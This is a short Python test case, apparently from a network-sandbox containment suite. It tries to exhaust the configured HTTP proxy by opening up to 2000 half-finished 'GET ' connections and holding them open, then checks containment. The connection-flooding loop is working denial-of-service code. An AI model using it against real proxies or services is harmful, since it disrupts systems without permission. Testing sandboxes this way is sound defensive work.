# tries: occupy the proxy with connections, and with the worker its descriptors
# outcome: succeeded
# policy: {"network": {"mode": "allow", "allow": ["allowed.invalid:80", "*.ok.invalid:443", "192.0.2.7:80"]}}
from hostile import *

import socket
from urllib.parse import urlsplit
at = urlsplit(os.environ["HTTP_PROXY"])
keep = []
try:
    for _ in range(2000):
        s = socket.socket(); s.settimeout(1); s.connect((at.hostname, at.port)); s.sendall(b"GET "); keep.append(s)
except OSError:
    pass
contained()
